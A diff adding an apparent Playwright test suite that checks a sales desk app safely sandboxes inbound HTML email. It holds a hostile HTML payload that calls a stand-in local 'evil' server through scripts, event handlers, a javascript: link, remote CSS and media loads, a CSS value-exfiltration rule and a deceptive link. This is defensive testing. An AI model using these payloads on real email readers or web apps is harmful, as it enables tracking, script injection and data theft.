@@ -1,0 +1,181 @@
+// Rules: inbound.whole
+import { once } from 'node:events';
+import { readFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { deskApi } from '@mainstage/contracts/desk/calls';
+import type { DeskLeadDetail } from '@mainstage/contracts/desk/leads';
+import { inboundMessagePath } from '@mainstage/contracts/desk/inbound-messages';
+import { freePort } from '@mainstage/testing/ports';
+import type { Page } from '@playwright/test';
+import { simpleParser } from 'mailparser';
+import nodemailer from 'nodemailer';
+import { SMTPServer } from 'smtp-server';
+import { addLead, team } from '../fixtures/desk';
+import { type OwnApi, ownApi } from '../fixtures/own-api';
+import { expect, test } from '../fixtures/test';
+
+const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+
+let api: OwnApi;
+let elsewhere: Server;
+/** Requests to the server that only a hostile message names. */
+let asked: string[];
+let inboundPort: number;
+let mailServer: SMTPServer;
+/** Texts of the mails to sales. */
+let mails: string[];
+
+test.beforeAll(async () => {
+  elsewhere = createServer((request, response) => {
+    asked.push(request.url ?? '');
+    response
+      .writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' })
+      .end('<h1>Elsewhere</h1>');
+  }).listen(0);
+  await once(elsewhere, 'listening');
+  inboundPort = await freePort();
+  api = await ownApi();
+  mailServer = new SMTPServer({
+    authOptional: true,
+    disabledCommands: ['STARTTLS'],
+    onData: (stream, _session, done) =>
+      void simpleParser(stream).then(({ text }) => {
+        mails.push(text ?? '');
+        done();
+      }),
+  });
+  const mailPort = await freePort();
+  mailServer.listen(mailPort, '127.0.0.1');
+  const settings = { INBOUND_SMTP_PORT: String(inboundPort), INBOUND_DOMAIN: 'in.venue.example' };
+  await api.up(settings);
+  await api.startWorker(`smtp://127.0.0.1:${mailPort}`, settings);
+});
+test.beforeEach(() => {
+  asked = [];
+  mails = [];
+});
+test.afterAll(async () => {
+  await api?.end();
+  elsewhere?.close();
+  mailServer?.close();
+});
+
+const evil = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+/** A page of the same server, under a name that tests may open. */
+const outside = () => `http://localhost:${(elsewhere.address() as AddressInfo).port}/desk/elsewhere`;
+
+/** Everything that HTML can load, run or send by. */
+const hostile = () => `
+<html><head><title>No title of a person</title><base href="${evil()}/"><meta http-equiv="refresh" content="0;url=${evil()}/refresh">
+<link rel="stylesheet" href="${evil()}/link.css"><style>@import url("${evil()}/import.css");
+body{background:url("${evil()}/style.png")} @font-face{font-family:x;src:url("${evil()}/font.woff")} *{font-family:x}
+input[value^="a"]{background:url("${evil()}/exfiltrated")}</style><script>fetch("${evil()}/script");alert(1)</script></head>
+<body background="${evil()}/body.png" onload="fetch('${evil()}/onload')">
+<p style="color:red;background-image:url(${evil()}/inline.png)">Wir kommen mit 80 € für die „Gala“.</p>
+<img src="${evil()}/pixel.gif" width="1" height="1"><img src="x" onerror="fetch('${evil()}/onerror')"><img srcset="${evil()}/set 1x">
+<svg onload="fetch('${evil()}/svg')"><image href="${evil()}/image.png"/><script>fetch("${evil()}/svgscript")</script></svg>
+<video autoplay src="${evil()}/film.mp4" poster="${evil()}/poster.png"></video><audio autoplay src="${evil()}/sound.mp3"></audio>
+<iframe src="${evil()}/frame"></iframe><object data="${evil()}/object"></object><embed src="${evil()}/embed">
+<form action="${evil()}/form"><input name="a" value="secret" autofocus onfocus="fetch('${evil()}/focus')"><button>Send</button></form>
+<table background="${evil()}/table.png"><tr><td>Anreise 10:15</td></tr></table>
+<img src="cid:plan@kunde.example" alt="Plan"><img src="cid:foreign@elsewhere.example" alt="Foreign">
+<a href="${outside()}">https://bank.example</a> <a href="javascript:fetch('${evil()}/js')">Run</a>
+<div id="divRplyFwdMsg"><b>Von:</b> Mainstage &lt;booking@venue.example&gt;<br><b>Gesendet:</b> Freitag, 12. Juni 2026 14:05<br><b>An:</b> Anna Berg<br><b>Betreff:</b> Ihre Anfrage</div><p>Hallo Frau Berg, das sind unsere Worte.</p>
+</body></html>`;
+
+/** A reply of the lead's visitor to all, the lead's copy address among them. */
+async function receiveFor(page: Page, leadId: string): Promise<void> {
+  const answer = await page.request.get(`${api.url}${deskApi}/leads/${leadId}`);
+  const { email, reply } = (await answer.json()) as DeskLeadDetail;
+  await nodemailer.createTransport({ port: inboundPort, tls: { rejectUnauthorized: false } }).sendMail({
+    from: { name: 'Anna Berg', address: email },
+    to: reply.copyTo ?? '',
+    subject: 'AW: Ihre Anfrage',
+    html: hostile(),
+    attachments: [
+      { filename: 'plan.png', cid: 'plan@kunde.example', content: png, encoding: 'base64' },
+      { filename: 'Gästeliste.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
+    ],
+  });
+}
+
+async function openedLead(page: Page): Promise<void> {
+  await page.goto(`${api.url}/desk/sign-in`);
+  await page.getByRole('button', { name: team.lead }).click();
+  await expect(page.getByRole('heading', { level: 1, name: /^Today/ })).toBeVisible();
+  const lead = await addLead(page);
+  await receiveFor(page, lead.id);
+  await page.goto(`${api.url}/desk/leads/${lead.id}`);
+}
+
+/** What the message shows, and that nothing of it ran or was loaded, whoever embeds it. */
+async function expectShown(page: Page): Promise<void> {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const frame = page.frameLocator('iframe[title="The message as its sender laid it out"]');
+  await expect(frame.getByText('Wir kommen mit 80 € für die „Gala“.')).toBeVisible();
+  await expect(frame.getByText('Hallo Frau Berg, das sind unsere Worte.')).toBeVisible();
+  await expect(frame.getByRole('img', { name: 'Plan' })).toHaveJSProperty('naturalWidth', 1);
+  await expect(frame.getByText('[Picture: Foreign]')).toBeVisible();
+  await expect(frame.getByText(`[${outside()}]`)).toBeVisible();
+  await expect(
+    frame.locator('script, style:nth-of-type(2), form, input, iframe, svg, video, object, link, base'),
+  ).toHaveCount(0);
+  await page.waitForLoadState('networkidle');
+  expect(asked).toEqual([]);
+  expect(dialogs).toEqual([]);
+
+  const [opened] = await Promise.all([
+    page.waitForEvent('popup'),
+    frame.getByRole('link', { name: 'https://bank.example' }).click(),
+  ]);
+  await expect(opened.getByRole('heading', { name: 'Elsewhere' })).toBeVisible();
+  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
+  await opened.close();
+}
+
+test.describe('a message at the desk', () => {
+  test('says what is left out and shows the whole by one press, without running or loading anything', async ({
+    page,
+  }) => {
+    await openedLead(page);
+    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
+    await expect(entry).toContainText('Wir kommen mit 80 € für die „Gala“.');
+    await expect(entry).toContainText('The quoted message at the end is left out.');
+    await expect(entry).not.toContainText('das sind unsere Worte');
+    await entry.getByRole('button', { name: 'Show the whole message' }).click();
+    await expectShown(page);
+    await entry.getByRole('button', { name: 'Show as text' }).click();
+    await expect(entry).toContainText('Hallo Frau Berg, das sind unsere Worte.');
+  });
+
+  test('gives its files by one press, never to be run here', async ({ page }) => {
+    await openedLead(page);
+    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      entry.getByRole('link', { name: 'Gästeliste.html' }).click(),
+    ]);
+    expect(download.suggestedFilename()).toBe('Gästeliste.html');
+    expect(await readFile(await download.path(), 'utf8')).toBe('<script>alert(1)</script>');
+  });
+
+  test('is told to sales with a link to all of it', async ({ page }) => {
+    await openedLead(page);
+    const link = new RegExp(`${api.url}${inboundMessagePath}/[\\w.-]+(?=\\s)`);
+    await expect.poll(() => mails.join('\n'), { timeout: 30_000 }).toMatch(link);
+    const mail = mails.find((text) => link.test(text)) ?? '';
+    expect(mail).toContain('The quoted message at the end is left out.');
+    expect(mail).toContain('1. plan.png, 2. Gästeliste.html');
+    expect(mail).not.toContain('das sind unsere Worte');
+    const answer = await page.request.get(link.exec(mail)?.[0] ?? '');
+    expect(answer.status()).toBe(200);
+    expect(await answer.text()).toMatch(
+      /<iframe title="The message as its sender laid it out" src="[^"]+\/html" sandbox="allow-popups allow-popups-to-escape-sandbox"/,
+    );
+  });
+});
